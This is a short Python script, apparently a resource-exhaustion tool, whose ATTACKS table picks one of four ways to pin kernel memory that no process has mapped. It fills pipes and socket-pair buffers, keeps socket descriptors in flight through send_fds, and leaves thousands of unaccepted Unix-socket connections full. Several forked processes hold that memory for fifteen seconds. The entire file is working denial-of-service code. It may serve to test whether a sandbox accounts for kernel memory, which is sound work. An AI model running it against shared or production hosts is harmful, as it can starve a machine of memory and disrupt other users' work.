"""Takes memory that no process has mapped: what pipes and sockets hold and nobody has read."""

import os
import socket
import sys
import time

BLOCK = b"x" * 65536


def fill(send):
    try:
        while send(BLOCK):
            pass
    except OSError:
        pass


def pipes(count):
    kept = []
    for _ in range(count):
        reader, writer = os.pipe()
        os.set_blocking(writer, False)
        fill(lambda block: os.write(writer, block))
        kept.append((reader, writer))
    return kept


def pair():
    ends = socket.socketpair()
    for end in ends:
        end.setblocking(False)
        fill(end.send)
    return ends


def in_flight(messages, each):
    """Sockets that have no descriptor any more: they are on their way in messages."""
    box = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    box[0].setblocking(False)
    for _ in range(messages):
        pairs = [pair() for _ in range(each)]
        descriptors = [end.fileno() for ends in pairs for end in ends]
        try:
            socket.send_fds(box[0], [b"x"], descriptors)
        except OSError as error:
            print(error)
            break
        for ends in pairs:
            for end in ends:
                end.close()
    return box


def unaccepted(count):
    """One descriptor, behind which everything waits to be accepted."""
    path = f"{os.environ['TMPDIR']}/{os.getpid()}"
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen(4096)
    for _ in range(count):
        client = socket.socket(socket.AF_UNIX)
        client.setblocking(False)
        try:
            client.connect(path)
        except OSError:
            break
        fill(client.send)
        client.close()
    return listener


ATTACKS = {
    "pipes": (15, lambda: pipes(500)),
    "sockets": (4, lambda: [pair() for _ in range(480)]),
    "in_flight": (1, lambda: in_flight(40, 100)),
    "unaccepted": (12, lambda: unaccepted(4096)),
}

processes, attack = ATTACKS[sys.argv[1]]
for _ in range(processes - 1):
    if os.fork() == 0:
        break
held = attack()
print("held")
time.sleep(15)
